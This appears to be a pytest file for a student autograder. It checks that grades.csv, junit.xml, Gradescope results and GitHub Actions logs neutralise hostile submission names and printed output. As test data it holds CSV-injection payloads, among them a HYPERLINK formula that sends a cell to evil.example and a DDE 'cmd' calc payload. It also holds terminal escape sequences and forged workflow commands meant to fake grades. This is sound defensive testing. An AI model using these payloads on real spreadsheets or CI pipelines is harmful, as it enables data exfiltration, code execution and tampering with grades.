"""Every output is safe to open whatever a student names a submission or an answer prints:
`grades.csv` in a spreadsheet (OWASP's CSV-injection rule), a GitHub Actions log (no workflow
command), `junit.xml` and Gradescope's `results.json` (valid whatever the text). The writers are
tested directly; one class run (slow) checks them end to end. Markdown is in
tests/test_grade_variants.py (names as code spans)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from rich.text import Text

from checker import puzzles
from checker.frontends import _autograde
from checker.grading import _gradebook
from checker.grading._sandbox import Limits
from tests._grading import run_grade
from tests.conftest import REPO, SOLUTIONS

POINTS = {p.name: p.points for p in puzzles()}
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)", "@x", "-2+3", "\t=1+1", "\r=1+1"]


def _doc(
    name: str, *, score: int | None = 1, reason: str = "", output: str = "", message: str = "m", status: str = "graded"
) -> dict[str, Any]:
    results = (
        []
        if score is None
        else [
            {
                "puzzle": "cumsum",
                "status": "fail",
                "points": score,
                "max_points": 2,
                "message": message,
                "diagnoses": [{"kind": "transposed", "message": message}],
                "output": output,
                "path": "autodiff/cumsum.py",
                "location": "",
                "draw": None,
            }
        ]
    )
    doc = {
        "submission": name,
        "status": status,
        "score": score,
        "max_score": 2,
        "key": "",
        "setup": "",
        "results": results,
    }
    return {**doc, "reason": reason} if reason else doc


# ---- grades.csv ----


def test_a_formula_in_a_name_or_reason_is_text_in_grades_csv() -> None:
    docs = [_doc(name, score=None, status="ungradable", reason=name) for name in FORMULAS]
    text = _gradebook.grades_csv(docs, ["cumsum"])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + FORMULAS[0], "", "2", "", "ungradable", "'" + FORMULAS[0]]
    # The csv module's own quoting for the embedded quotes: the line as a spreadsheet reads it.
    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")","",2,"","ungradable","\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
    shown = ["'" + name.replace("\t=", "\t'=") for name in FORMULAS]  # after a tab too: a cell where tabs split
    assert [row[0] for row in rows[1:]] == shown
    assert [row[-1] for row in rows[1:]] == shown


def test_grades_csv_keeps_numbers_numeric_and_plain_names_as_they_are() -> None:
    text = _gradebook.grades_csv([_doc("ada", score=-1), _doc("o'neil=", score=0)], ["cumsum"])
    assert text.splitlines()[1:] == ['"ada",-1,2,-1,"graded",""', '"o\'neil=",0,2,0,"graded",""']
    assert _gradebook.cell(-3) == -3 and _gradebook.cell(-0.5) == -0.5 and _gradebook.cell("-3") == "'-3"


def test_a_formula_after_spaces_is_text_too_where_an_import_trims_them() -> None:
    assert _gradebook.cell(" =1+1") == "' =1+1" and _gradebook.cell("  @SUM(A1)") == "'  @SUM(A1)"
    assert _gradebook.cell("ada; =1+1") == "ada; '=1+1" and _gradebook.cell("ada lovelace") == "ada lovelace"


@pytest.mark.parametrize("name", ["x;=1+1;", "y;=HYPERLINK(ZEICHEN(104));", "z;+1+1", "w\t;@SUM(A1)"])
def test_a_formula_after_a_semicolon_stays_text_where_a_spreadsheet_splits_at_semicolons(name: str) -> None:
    """Many locales' spreadsheets split a .csv at `;` (red team, round 11): every text cell is
    quoted, so the name stays one cell that starts with its first character."""
    text = _gradebook.grades_csv([_doc(name, reason=name)], ["cumsum"])
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            cells = [c for c in row if c.strip()]  # not the line's end, left over where `;` splits a quoted cell
            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), (delimiter, row)


def test_a_student_id_column_is_neutralised_too() -> None:
    doc = {**_doc("ada"), "student": "=cmd|' /C calc'!A0"}
    rows = list(csv.reader(io.StringIO(_gradebook.grades_csv([doc], ["cumsum"]))))
    assert rows[0][:2] == ["submission", "student"] and rows[1][1] == "'=cmd|' /C calc'!A0"


# ---- junit.xml and Gradescope's results.json ----

NOT_XML = "".join(map(chr, [*range(0, 9), 0x0B, 0x0C, *range(0x0E, 0x20)])) + "\ud800\udfff\ufffe\uffff"


@pytest.mark.parametrize(
    "name", ["bad\x00\x01\x1bname", "a]]>b<c>&d\"e'", "\udcff\udce9caf", "x\ufffe\uffffy", NOT_XML]
)
def test_junit_xml_is_valid_whatever_the_name_and_output(name: str) -> None:
    docs = [
        _doc(name, output=f"]]>{NOT_XML}<![CDATA[", message=f"{name}]]>"),
        _doc(name, score=None, status="ungradable", reason=name),
    ]
    text = _gradebook.junit_xml(docs)
    text.encode("utf-8")  # no lone surrogate left
    root = ET.fromstring(text.split("\n", 1)[1])
    suites = root.findall("testsuite")
    assert len(suites) == 2 and all(
        re.fullmatch("[^\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]*", s.get("name", "")) for s in suites
    )
    out = root.find("testsuite/testcase/system-out")
    assert out is not None and out.text is not None and out.text.startswith("]]>") and out.text.endswith("<![CDATA[")


def test_gradescope_results_are_strict_json_in_utf_8_whatever_was_printed() -> None:
    doc = _doc("submission", output="\udcff\x00\x1b]52;c;ZXZpbA==\x07 ::notice::x", message="caf\udce9")
    written = _autograde.gradescope_results(doc, 1.0)
    text = json.dumps(written, indent=2)
    parsed = json.loads(text)
    out = parsed["tests"][0]["output"]
    assert "\ufffd\x00\x1b]52;c;ZXZpbA==\x07 ::notice::x" in out and "caf\ufffd" in out
    json.dumps(parsed, ensure_ascii=False).encode("utf-8")  # strict UTF-8: no lone surrogate anywhere
    assert "\\ud" not in text


# ---- CI logs ----

HOSTILE_OUTPUT = "\n".join([
    "::notice title=Grade::100/100 points",
    "  ::add-mask::secret",
    "::set-output name=result::eyJ2ZXJzaW9uIjogMX0=",
    "::stop-commands::pwn",
    "##[group]Autograding complete",
    "text ##[error]mid-line legacy command",
    "a\r::warning::after a carriage return",
    "\u2028::error::after a line separator",
    "x\u2028::error::after a line separator mid-line",
    "\ufeff::error::after a byte-order mark",
    "a\x85::error::after a next-line character",
])


def _is_command(line: str) -> bool:
    """Whether a GitHub Actions runner could read `line` as a workflow command (ActionCommand.cs):
    `::` at its start after whitespace, or a legacy `##[` anywhere; also after any other line
    separator (U+2028, U+2029, NEL) or a byte-order mark, which some readers of a log count."""
    parts = re.split("[\u2028\u2029\x85]", line)
    return any(part.lstrip().lstrip("\ufeff").lstrip().startswith("::") for part in parts) or "##[" in line


def test_neutralised_text_holds_no_workflow_command_and_reads_the_same() -> None:
    shown = _gradebook.neutralised(HOSTILE_OUTPUT)
    lines = re.split("\r\n|\r|\n", shown)  # the runner's line breaks
    assert not any(_is_command(line) for line in lines), lines
    assert "::" not in shown  # nowhere, whatever a reader takes for a line's start
    assert shown.replace("\u200b", "") == HOSTILE_OUTPUT.replace("\r", "\n")
    assert lines[0] == ":\u200b:notice title=Grade:\u200b:100/100 points"
    assert lines[4] == "#\u200b#[group]Autograding complete"
    assert _gradebook.neutralised("a ::: b, #[x] and ## heading") == "a :\u200b:\u200b: b, #[x] and ## heading"


def test_the_end_of_run_table_holds_no_workflow_command_even_where_a_long_name_folds() -> None:
    """A class graded in a CI job: submission names start the table's lines, and a long one
    folds onto lines of its own."""
    from checker.grading._grade import _table

    folded = 0
    for n in range(10, 40):  # wherever the name folds
        docs = [
            _doc("::warning::pwn", score=None, status="ungradable", reason="##[group]x"),
            _doc("x" * n + "::error::folded", score=1),
        ]
        log = Console(file=io.StringIO(), width=80)
        _gradebook.print_neutralised(log, _table(docs))
        lines = log.file.getvalue().splitlines()  # type: ignore[attr-defined]
        assert any(line.lstrip().startswith(":\u200b:warning:\u200b:pwn") for line in lines), lines
        assert not any(_is_command(line) for line in lines), lines
        folded += any(line.lstrip().startswith(":\u200b:error:\u200b:folded") for line in lines)
    assert folded


def _classroom_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, printed: str) -> tuple[str, dict[str, Any]]:
    """The log of `grade --github-classroom` whose grading prints `printed` as the report does."""
    doc = {**_doc("repo", score=0, output=printed, message="wrong"), "max_score": 2}

    def grade_one(
        root: Path,
        name: str,
        out: Path,
        limits: Limits,
        seed: int,
        console: Console,
        progress: Console,
        *rest: Any,
        **options: Any,
    ) -> dict[str, Any]:
        console.print(Text(f"repo: 0/2 points\nYour answer printed:\n{printed}"))
        return doc

    monkeypatch.setattr(_autograde, "grade_one", grade_one)
    log = Console(file=io.StringIO(), width=160)
    code = _autograde.github_classroom(
        tmp_path, Limits(5, 1024), 0, None, log, log, environ={"GITHUB_OUTPUT": str(tmp_path / "out.txt")}
    )
    assert code == 0
    value = log.file.getvalue()  # type: ignore[attr-defined]
    return value, json.loads(
        __import__("base64").b64decode((tmp_path / "out.txt").read_text().strip().partition("=")[2])
    )


def test_the_classroom_log_wraps_what_an_answer_printed_in_stopped_commands_with_a_fresh_token(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, _ = _classroom_log(tmp_path, monkeypatch, HOSTILE_OUTPUT)
    lines = text.splitlines()
    start = re.fullmatch("::stop-commands::([0-9a-f]{32})", lines[0])
    assert start is not None, lines[:3]
    token = start.group(1)
    end = lines.index(f"::{token}::")
    inside, after = lines[1:end], lines[end + 1:]
    assert (
        "::notice title=Grade::100/100 points" in inside and "##[group]Autograding complete" in inside
    )  # as grade_one printed them
    assert text.count(token) == 2  # drawn for this run: written nowhere before the block, nor by the answer
    assert after == [
        "wrote the Classroom result (0/2 points) to $GITHUB_OUTPUT as the step output `result`"
    ]  # the kit's own line, outside
    again, _ = _classroom_log(tmp_path, monkeypatch, HOSTILE_OUTPUT)
    assert again.splitlines()[0] != lines[0]


def test_the_classroom_result_s_messages_hold_no_workflow_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The reporter prints a test's message into its own step's log (`Error: <message>`)."""
    _, result = _classroom_log(tmp_path, monkeypatch, HOSTILE_OUTPUT)
    message = result["tests"][0]["message"]
    assert ":\u200b:notice title=Grade:\u200b:100/100 points" in message
    assert not any(_is_command(line) for line in re.split("\r\n|\r|\n", message))


@pytest.mark.slow
def test_the_pytest_plugin_s_failure_text_holds_no_workflow_command(tmp_path: Path) -> None:
    """`pytest --jacpuzzles` in a CI job: a failing answer printing workflow commands."""
    answers = tmp_path / "answers" / "autodiff"
    answers.mkdir(parents=True)
    printing = "".join(f"print({line!r})\n" for line in HOSTILE_OUTPUT.split("\n"))
    (answers / "neg.py").write_text(printing + "import numpy as np\n\ndef jac(x):\n    return np.eye(x.shape[0])\n")
    assignment = tmp_path / "a.toml"
    assignment.write_text("[puzzles]\nneg = 1\n")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            "--jacpuzzles",
            "--jacpuzzles-dir",
            str(tmp_path / "answers"),
            "--jacpuzzles-assignment",
            str(assignment),
            "-p",
            "no:cacheprovider",
            "-q",
        ],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=600,
        env={**os.environ, "PYTHONPATH": str(REPO), "GITHUB_ACTIONS": "true"},
    )
    assert result.returncode == 1 and "1 failed" in result.stdout, result.stdout[-3000:] + result.stderr[-2000:]
    assert ":\u200b:notice title=Grade:\u200b:100/100 points" in result.stdout
    assert not any(_is_command(line) for line in re.split("\r\n|\r|\n", result.stdout + result.stderr))


# ---- end to end ----


@pytest.mark.slow
def test_a_class_with_hostile_names_gets_outputs_safe_to_open(tmp_path: Path) -> None:
    subs = tmp_path / "subs"
    names = ['=HYPERLINK("https:evil.example?"&A1,"x")', "+SUM(1)", "@x", "-2+3", "https:evil.example`x`"]
    for name in names:
        (subs / name / "autodiff").mkdir(parents=True)
        (subs / name / "autodiff" / "neg.py").write_text((SOLUTIONS / "autodiff" / "neg.py").read_text())
    assignment = tmp_path / "a.toml"
    assignment.write_text("[puzzles]\nneg = 1\n")
    out = tmp_path / "out"
    result = run_grade(subs, out=out, assignment=assignment, timeout=5, wait=600, stdin=None)
    assert result.returncode == 0, result.stderr[-3000:]
    rows = list(csv.DictReader(io.StringIO((out / "grades.csv").read_text())))
    by_name = {r["submission"]: r for r in rows}
    assert sorted(by_name) == sorted(["'" + n for n in names[:4]] + [names[4]])
    assert all(r["score"] == "1" for r in rows)
    assert {s.get("name") for s in ET.parse(out / "junit.xml").getroot().iter("testsuite")} == set(names)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["zz ##[error]x", "::warning::x"])
def test_a_name_holding_a_workflow_command_is_skipped_and_never_printed_raw(tmp_path: Path, name: str) -> None:
    # The progress bar's last line named the last submission graded (red team RT30: `##[error]`
    # reached stderr there); such a name is skipped now (RT31), and its line says so, neutralised.
    (tmp_path / "subs" / name / "autodiff").mkdir(parents=True)
    shutil.copy(SOLUTIONS / "autodiff" / "neg.py", tmp_path / "subs" / name / "autodiff" / "neg.py")
    assignment = tmp_path / "a.toml"
    assignment.write_text("[puzzles]\nneg = 1\n")
    result = run_grade(tmp_path / "subs", out=tmp_path / "out", assignment=assignment, timeout=5, wait=600, stdin=None)
    assert "workflow command" in result.stderr and "rename it" in result.stderr, result.stderr[-3000:]
    assert not any(_is_command(line) for line in re.split("\r\n|\r|\n", result.stdout + result.stderr))


@pytest.mark.slow
def test_no_file_the_grader_writes_holds_a_workflow_command(tmp_path: Path) -> None:
    # Red team RT31: what an answer printed or raised reached junit.xml, the feedback and the
    # entry as written, `##[group]` and `::set-output` at a line's start; a CI step that prints
    # them (a `cat`, a JUnit reporter) hands them to the runner. Names holding them are skipped.
    subs = tmp_path / "subs"
    (subs / "bob" / "autodiff").mkdir(parents=True)
    head = (SOLUTIONS / "autodiff" / "neg.py").read_text()
    (subs / "bob" / "autodiff" / "neg.py").write_text(
        head + "\nprint('::error title=x::printed\\n##[group]grouped')\n"
        "import sys\nsys.stderr.write('::warning::err\\n')\n")
    (subs / "bob" / "autodiff" / "relu.py").write_text(
        "def jac(x):\n    raise ValueError('::warning::raised\\n##[endgroup]')\n")
    for name in ("::error::named", "x ##[group]named"):
        shutil.copytree(subs / "bob", subs / name)
    assignment = tmp_path / "a.toml"
    assignment.write_text("[puzzles]\nneg = 1\nrelu = 1\n")
    out = tmp_path / "out"
    result = run_grade(subs, out=out, assignment=assignment, timeout=5, wait=600, stdin=None)
    assert result.returncode == 0, result.stderr[-3000:]
    bob = json.loads((out / "bob.json").read_text())
    assert bob["score"] == 1 and "printed" in json.dumps(bob), bob  # the output is kept, as text
    written = [p for p in out.rglob("*") if p.is_file() and not p.name.startswith(".jacpuzzles-key")]
    assert {p.name for p in written} >= {"bob.json", "bob.txt", "junit.xml", "grades.csv", "summary.md"}
    for path in written:
        text = path.read_text(encoding="utf-8", errors="replace")
        for line in re.split("\r\n|\r|\n", text) + re.split("\r\n|\r|\n", text.replace("\\n", "\n")):
            assert not _is_command(line), (path.name, line)
    rows = {r["submission"]: r for r in csv.DictReader(io.StringIO((out / "grades.csv").read_text()))}
    assert sum(r["status"] == "skipped" for r in rows.values()) == 2, rows
